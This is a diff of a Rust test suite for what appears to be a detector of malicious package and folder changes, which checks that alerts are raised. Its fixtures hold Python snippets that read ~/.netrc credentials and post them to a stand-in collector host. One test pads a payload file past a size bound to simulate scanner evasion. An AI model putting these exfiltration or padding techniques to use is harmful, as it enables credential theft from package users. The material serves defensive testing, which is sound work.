@@ -270,23 +270,37 @@ fn what_stood_for_thirty_days_is_accepted() {
     assert_eq!(theft([1, 2, 29, 30]), 1, "the plain form");
 }
 
+/// What is raised of the states of a folder, one a night: first the versions of the tests, then each of these over the one before.
+fn of_folder(parts: &[Release]) -> usize {
+    let capdex = Capdex::offline();
+    let folder = capdex.path().join("letters").display().to_string();
+    capdex.write("schedule.toml", format!("name = \"local\"\n[sources.folder]\nwatchlist = [{folder:?}]\n"));
+    for (number, files) in over(parts).iter().enumerate() {
+        for (path, bytes) in files {
+            capdex.write(&format!("letters/{path}"), bytes);
+        }
+        let run = night(&capdex, number + 1);
+        assert!(matches!(run.code, Some(0 | 3)), "{}", run.stdout);
+    }
+    alerts(&capdex).len()
+}
+
 #[test]
 fn a_theft_that_is_spread_over_the_states_of_a_folder_is_told() {
-    let of_folder = |parts: &[Release]| -> usize {
-        let capdex = Capdex::offline();
-        let folder = capdex.path().join("letters").display().to_string();
-        capdex.write("schedule.toml", format!("name = \"local\"\n[sources.folder]\nwatchlist = [{folder:?}]\n"));
-        for (number, files) in over(parts).iter().enumerate() {
-            for (path, bytes) in files {
-                capdex.write(&format!("letters/{path}"), bytes);
-            }
-            night(&capdex, number + 1);
-        }
-        alerts(&capdex).len()
-    };
     assert_eq!(of_folder(&[installs(release()), reads(), sends()]), 1);
     let words = |text: &'static str| release().add("README.md", text);
     assert_eq!(of_folder(&[words("# One\n"), installs(release()), words("# Two\n")]), 0, "an honest one");
+}
+
+#[test]
+fn a_program_that_is_padded_past_the_bound_of_a_file_is_told() {
+    let main = |lines: usize| {
+        let padded = [SEND.as_bytes(), &b"// x\n".repeat(lines)].concat();
+        let start = "\"bin\": {\"letters\": \"index.js\"}";
+        release().replace("package.json", start, "\"bin\": {\"letters\": \"lib/main.js\"}").add("lib/main.js", padded)
+    };
+    assert_eq!(of_folder(&[main(7 << 20)]), 1, "33 MiB and more");
+    assert_eq!(of_folder(&[main(100)]), 0, "one that was read whole, and no more than a new host");
 }
 
 fn publish(registry: &Registry, name: &str, version: usize, files: &Files) {
@@ -305,6 +319,10 @@ fn publish(registry: &Registry, name: &str, version: usize, files: &Files) {
 /// The files of one version of a project, by path.
 type ProjectFiles = Vec<(&'static str, String)>;
 
+fn in_bytes(files: &ProjectFiles) -> Vec<(&str, &[u8])> {
+    files.iter().map(|(path, text)| (*path, text.as_bytes())).collect()
+}
+
 /// Each project in two versions on two nights: whether an alert of drift was raised, and the effects of its events.
 fn projects(cases: &[(&'static str, [ProjectFiles; 2])]) -> Told {
     let registry = Registry::start();
@@ -313,9 +331,7 @@ fn projects(cases: &[(&'static str, [ProjectFiles; 2])]) -> Told {
     capdex.write("schedule.toml", packages::schedule(&[], &names));
     for number in 0..2 {
         for (name, versions) in cases {
-            let files: Vec<(&str, &[u8])> =
-                versions[number].iter().map(|(path, text)| (*path, text.as_bytes())).collect();
-            registry.pypi_package(name, &format!("1.0.{number}"), &files);
+            registry.pypi_package(name, &format!("1.0.{number}"), &in_bytes(&versions[number]));
         }
         night(&capdex, number + 1);
     }
@@ -406,4 +422,37 @@ fn what_a_build_of_python_runs_is_an_effect() {
     for name in ["backend", "other-tool"] {
         assert!(told[name].1.contains("build_step"), "{name}: {:?}", told[name]);
     }
+}
+
+/// What pip installs is the wheel or the archive of sources, as the machine has it: they are one release.
+#[test]
+fn a_theft_that_is_spread_over_the_files_of_a_release_is_told() {
+    const READS: &str =
+        "import pathlib\n\n\ndef settings():\n    return (pathlib.Path.home() / \".netrc\").read_text()\n";
+    const SENDS: &str =
+        "import httpx\n\n\ndef report(text):\n    httpx.post(\"https://in.collector.test/v1\", data=text)\n";
+    const NOTES: &str = "def fold(text):\n    return text.strip()\n";
+    let registry = Registry::start();
+    let capdex = Capdex::with(&registry);
+    let cases = [("split", READS, SENDS), ("half", READS, NOTES), ("honest", NOTES, NOTES)];
+    capdex.write("schedule.toml", packages::schedule(&[], &cases.map(|(name, ..)| name)));
+    for number in 0..2 {
+        let version = format!("1.0.{number}");
+        for (name, of_sources, of_wheel) in cases {
+            let with = |own: &str| {
+                let mut files = project("", PLAIN_BUILD);
+                if number == 1 {
+                    files.push(("letters/more.py", own.to_owned()));
+                    files[2].1.insert_str(0, "from . import more\n");
+                }
+                files
+            };
+            let (sources, wheel) = (with(of_sources), with(of_wheel));
+            registry.pypi_package(name, &version, &in_bytes(&sources)).pypi_wheel(name, &version, &in_bytes(&wheel));
+        }
+        night(&capdex, number + 1);
+    }
+    let told: Vec<String> = alerts(&capdex).iter().map(|row| text(row, "subject").to_owned()).collect();
+    let events = rows(&capdex.path().join("out"), "drift");
+    assert!(!told.is_empty() && told.iter().all(|subject| subject.starts_with("pypi-split")), "{told:?} {events:#?}");
 }
